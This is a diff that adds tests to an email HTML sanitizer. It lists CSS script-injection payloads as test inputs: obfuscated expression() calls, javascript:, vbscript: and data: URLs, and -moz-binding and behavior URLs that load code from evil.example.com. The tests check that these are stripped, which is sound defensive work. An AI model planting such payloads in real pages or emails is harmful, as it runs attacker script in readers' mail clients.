@@ -119,6 +119,122 @@ describe('sanitizeEmailHtml', () => {
     expect(describeRemovals(removed)).toBe('1 script, 1 event handler (onclick), 1 javascript: link and 3 Outlook conditional comments');
   });
 
+  describe('CSS that loads or runs code', () => {
+    /** Each vector, written plainly and disguised, as a style attribute's declaration, and what the checklist calls it. */
+    const VECTORS: Array<[string, string]> = [
+      ['width: expression(alert(1))', 'CSS expression'],
+      ['width: EXPRESSION(alert(1))', 'CSS expression'],
+      ['width: e\\xpression(alert(1))', 'CSS expression'],
+      ['width: \\65xpression(alert(1))', 'CSS expression'],
+      ['width: \\000065 xpression(alert(1))', 'CSS expression'],
+      ['width: exp/**/ression(alert(1))', 'CSS expression'],
+      ['width: exp/* a comment */ression (alert(1))', 'CSS expression'],
+      ['width: ｅｘｐｒｅｓｓｉｏｎ(alert(1))', 'CSS expression'],
+      ['width:/**/expression(alert(1)) !important', 'CSS expression'],
+      ['background: url(javascript:alert(1))', 'javascript: address'],
+      ['background-image: URL("JavaScript:alert(1)")', 'javascript: address'],
+      ["background-image: url( 'java\tscript:alert(1)' )", 'javascript: address'],
+      ['background-image: url(\\6a avascript:alert(1))', 'javascript: address'],
+      ['background-image: url(java\\script:alert(1))', 'javascript: address'],
+      ['list-style-image: url(vbscript:msgbox(1))', 'vbscript: address'],
+      ['background: url(data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', 'data: address'],
+      ['background: url("DATA:Text/HTML,<script>alert(1)</script>")', 'data: address'],
+      ['-moz-binding: url(https://evil.example.com/xss.xml#xss)', '-moz-binding'],
+      ['-MOZ-BIND\\ing: url(https://evil.example.com/xss.xml#xss)', '-moz-binding'],
+      ['behavior: url(https://evil.example.com/xss.htc)', 'behavior'],
+      ['BEHAVIOR : url(xss.htc)', 'behavior'],
+      ['*behavior: url(xss.htc)', 'behavior'],
+      ['-ms-behavior: url(xss.htc)', 'behavior'],
+    ];
+
+    it('removes each unsafe declaration from a style attribute, however it is written, and keeps the others as written', () => {
+      for (const [declaration, name] of VECTORS) {
+        const source = `<p style="color: #333333; ${declaration.replace(/"/g, '&quot;')}; font-size: 16px">Hi</p>`;
+        const { html, removed } = sanitizeEmailHtml(source);
+        expect([declaration, html, removed]).toEqual([declaration, '<p style="color: #333333; font-size: 16px">Hi</p>', [{ kind: 'unsafeStyle', name }]]);
+      }
+    });
+
+    it('reads entities in a style attribute as the browser does, and drops a style left empty', () => {
+      const { html, removed } = sanitizeEmailHtml('<td style="background:url(&#106;avascript:alert(1))">A</td><div style="width:&#x65;xpression(alert(1));">B</div>');
+      expect(html).toBe('<td>A</td><div>B</div>');
+      expect(describeRemovals(removed)).toBe('2 unsafe style rules (javascript: address, CSS expression)');
+    });
+
+    it('keeps styles without active content as written: images, fonts, data images, words that only look alike', () => {
+      const kept = [
+        'background-image: url(https://img.example.com/bg.png); background-color: #fdf6e3',
+        "background: url('data:image/png;base64,iVBORw0KGgo=') no-repeat",
+        "font-family: 'Expression Pro', Arial, sans-serif; mso-line-height-rule: exactly",
+        'width: calc(100% - 20px); --brand: #123456',
+        'color: red\nwidth: 2px',
+      ];
+      for (const style of kept) {
+        const source = `<p style="${style.replace(/'/g, '&#39;')}">Hi</p>`;
+        const { html, removed } = sanitizeEmailHtml(source);
+        expect([style, dom(html), removed]).toEqual([style, dom(source), []]);
+      }
+    });
+
+    it('removes a style attribute it cannot parse whole when it holds active content', () => {
+      const { html, removed } = sanitizeEmailHtml(
+        '<p style="color: red; width: expression(alert(1)">A</p><p style="color: red; x: &quot;abc; behavior: url(x.htc)">B</p><p style="color: red; be/**/havior: url(x.htc)">C</p>',
+      );
+      expect(html).toBe('<p>A</p><p>B</p><p>C</p>');
+      expect(removed).toEqual([
+        { kind: 'unsafeStyle', name: 'CSS expression' },
+        { kind: 'unsafeStyle', name: 'behavior' },
+        { kind: 'unsafeStyle', name: 'behavior' },
+      ]);
+    });
+
+    it('removes unsafe rules from <style> elements (which the export inlines) and keeps the rest of the stylesheet', () => {
+      const css = [
+        '.hero { color: #111111; width: e\\xpression(alert(1)); padding: 8px; }',
+        '@import url("javascript:alert(1)");',
+        '.cta { behavior: url(xss.htc); background: url(data:text/html,x) }',
+        '@media only screen and (max-width: 620px) { .hero { font-size: 20px !important; -moz-binding: url(x.xml#x) } }',
+        'a[href^="javascript:"] { color: red }',
+      ].join('\n');
+      const { html, removed } = sanitizeEmailHtml(`<style type="text/css">${css}</style><p class="hero">Hi</p>`);
+      expect(html).toBe(
+        '<style type="text/css">' +
+          ['.hero { color: #111111; padding: 8px; }', '.cta { }', '@media only screen and (max-width: 620px) { .hero { font-size: 20px !important } }'].join('\n') +
+          '</style><p class="hero">Hi</p>',
+      );
+      expect(describeRemovals(removed)).toBe('6 unsafe style rules (CSS expression, javascript: address, behavior, data: address, -moz-binding)');
+      // what is left is clean read again
+      expect(sanitizeEmailHtml(html).removed).toEqual([]);
+    });
+
+    it('removes a stylesheet it cannot parse whole when it holds active content, and keeps one that is only broken', () => {
+      expect(sanitizeEmailHtml('<style>.a { color: red; width: expression(alert(1)</style><p>x</p>')).toEqual({ html: '<style></style><p>x</p>', removed: [{ kind: 'unsafeStyle', name: 'CSS expression' }] });
+      expect(sanitizeEmailHtml('<style>.a { color: red; width: 2px</style><p>x</p>')).toEqual({ html: '<style>.a { color: red; width: 2px</style><p>x</p>', removed: [] });
+      // an unclosed <style> runs to the end of the HTML, and is read to the end
+      expect(sanitizeEmailHtml('<p>x</p><style>.a { behavior: url(x.htc) }').html).not.toMatch(/behavior/);
+    });
+
+    it('reports the styles of a tag that stays only, and removes an Outlook conditional comment holding one', () => {
+      const { html, removed } = sanitizeEmailHtml(
+        '<form style="width: expression(1)"><p>In</p></form>' +
+          '<!--[if mso]><v:rect style="behavior: url(#default#VML); width: 100px"></v:rect><![endif]--><p>ok</p>',
+      );
+      expect(html).toBe('<p>In</p><p>ok</p>');
+      expect(describeRemovals(removed)).toBe('1 unsafe style rule (behavior), 1 form and 1 Outlook conditional comment');
+    });
+
+    it('cleans an address written into a field that fills a style', () => {
+      const template = '<td style="background-image: url({{image}}); padding: 12px">{{text}}</td>';
+      const filled = renderModuleHtml(template, { image: 'javascript:alert(1)', text: 'Hi' }, brandTokens());
+      const { html, removed } = sanitizeEmailHtml(filled);
+      expect(html).toBe('<td style="padding: 12px">Hi</td>');
+      expect(removed).toEqual([{ kind: 'unsafeStyle', name: 'javascript: address' }]);
+      expect(describeRemovals([{ kind: 'javascriptLink', name: 'href' }, { kind: 'javascriptLink', name: 'href' }, ...removed, ...removed, ...removed])).toBe(
+        '2 javascript: links and 3 unsafe style rules (javascript: address)',
+      );
+    });
+  });
+
   it('answers nothing removed for every starter module, filled or empty, and the same markup', () => {
     const tokens = brandTokens({ name: 'Ré & Co', typography: { headingFont: '1942 Report', bodyFont: 'Inter' }, colors: { primary: 'hsl(160, 56%, 28%)' } });
     for (const module of STARTER_MODULES) {
